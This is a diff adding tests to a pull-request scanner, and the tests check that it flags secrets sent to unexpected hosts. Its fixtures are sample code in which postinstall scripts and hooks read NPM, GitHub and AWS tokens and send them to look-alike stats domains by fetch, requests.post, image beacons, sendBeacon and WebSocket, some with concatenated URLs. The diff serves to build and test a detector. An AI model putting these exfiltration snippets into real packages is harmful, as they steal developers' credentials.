@@ -4860,6 +4860,31 @@ describe('pr-claim-mismatch over a bare host name swapped in an allow-list', () 
   });
 });
 
+describe('suspicious-network-endpoint: a secret in a request written over several lines, to a URL a name holds, a beacon or a socket (since 2026-12-02)', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'chore: usage stats').find((f) => f.id === 'suspicious-network-endpoint');
+  const pad = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', 'const e = 5;'];
+  it('reads the name in the body lines below the call, the URL in a constant far above or built by concatenation', () => {
+    expect(sent('src/postinstall.js', ['function go() {', '  const token = process.env.NPM_TOKEN;', '  const host = os.hostname();', '  const user = os.userInfo().username;', '  const cwd = process.cwd();', '  const plat = process.platform;', "  return fetch('https://npm-stats.dev/c', {", "    method: 'POST',", '    body: JSON.stringify({ token, host, user, cwd, plat }),', '  });', '}'])).toMatchObject({ severity: 'critical', line: 19 });
+    expect(sent('src/postinstall.js', ["const SINK = 'https://npm-stats.dev/c';", ...pad, 'function go() {', '  const token = process.env.NPM_TOKEN;', "  fetch(SINK, { method: 'POST', body: token });", '}'])).toMatchObject({ severity: 'critical', line: 19 });
+    expect(sent('src/postinstall.js', ["const HOST = 'gh-' + 'metrics.dev';", "const URL_ = 'https://' + HOST + '/c';", ...pad, 'function go() {', "  fetch(URL_, { method: 'POST', body: process.env.GITHUB_TOKEN });", '}'])?.title).toBe('A secret named for another service is sent to gh-metrics.dev');
+    // Every secret the line carries is judged: NPM_TOKEN's host may pass for npm's, GITHUB_TOKEN's is not GitHub's.
+    expect(sent('src/usage.js', ['const npm = process.env.NPM_TOKEN;', 'const gh = process.env.GITHUB_TOKEN;', ...pad, "await fetch('https://npm-registry-metrics.com/u', {", "  method: 'POST',", '  body: JSON.stringify({ npm, gh }),', '});'])?.detail).toContain('GITHUB_TOKEN');
+    expect(sent('pkg/hook.py', ['SINK = "https://gh-stats.dev/c"', 'A = 1', 'B = 2', 'C = 3', 'D = 4', 'def run():', '    tok = os.environ.get("GITHUB_TOKEN")', '    x = 1', '    y = 2', '    z = 3', '    w = 4', '    requests.post(', '        SINK,', "        json={'t': tok},", '    )'])?.line).toBe(24);
+  });
+  it('reads an image beacon, sendBeacon and a WebSocket written to', () => {
+    expect(sent('src/track.js', ['const t = process.env.NPM_TOKEN;', "new Image().src = 'https://px.stats-cdn.dev/p?k=' + encodeURIComponent(t);"])?.line).toBe(12);
+    expect(sent('src/track.js', ["const COLLECT = 'https://px.stats-cdn.dev/p';", ...pad, 'const t = process.env.NPM_TOKEN;', 'navigator.sendBeacon(COLLECT, t);'])?.line).toBe(18);
+    expect(sent('src/track.js', ['const t = process.env.AWS_SECRET_ACCESS_KEY;', "const ws = new WebSocket('wss://px.stats-cdn.dev/s');", 'ws.onopen = () => ws.send(JSON.stringify({ t }));'])?.line).toBe(13);
+  });
+  it('stays quiet on a token in a headers object over several lines, a client secret posted to a token endpoint, telemetry with no secret, and a token sent to its own service', () => {
+    expect(sent('src/logs.js', ["const INTAKE = 'https://intake.logs-relay.example-logs.com/v1';", ...pad, 'export async function ship(batch) {', '  const key = process.env.DATADOG_API_KEY;', '  return fetch(INTAKE, {', "    method: 'POST',", '    headers: {', "      'DD-API-KEY': key,", "      'Content-Type': 'application/json',", '    },', '    body: JSON.stringify(batch),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/auth.js', ["const TOKEN_URL = 'https://github.com/login/oauth/access_token';", ...pad, 'export async function exchange(code) {', '  const secret = process.env.GITHUB_CLIENT_SECRET;', '  return fetch(TOKEN_URL, {', "    method: 'POST',", '    body: new URLSearchParams({ client_id: id, client_secret: secret, code }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/telemetry.js', ["const ENDPOINT = 'https://telemetry.acme-sdk.dev/v1/events';", 'const token = process.env.ACME_SDK_TOKEN;', 'export function track(event) {', '  navigator.sendBeacon(ENDPOINT, JSON.stringify({ event, version: VERSION }));', '}'])).toBeUndefined();
+    expect(sent('src/slack.js', ["const API = 'https://slack.com/api/chat.postMessage';", ...pad, 'export async function post(channel, text) {', '  const token = process.env.SLACK_BOT_TOKEN;', '  await fetch(API, {', "    method: 'POST',", '    body: JSON.stringify({ token, channel, text }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/client.ts', ['export class Client {', '  async user() {', '    const token = process.env.NPM_TOKEN;', '    return fetch(`${this.baseUrl}/user`, {', '      method: "POST",', '      body: JSON.stringify({ token }),', '    });', '  }', '}'])).toBeUndefined();
+  });
+});
+
 describe('suspicious-network-endpoint: a test that posts a secret-named variable to a host of its choosing', () => {
   const sent = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })], 'test: fix flaky setup').filter((f) => f.id === 'suspicious-network-endpoint').map((f) => `${f.id}:${f.severity}`);
 
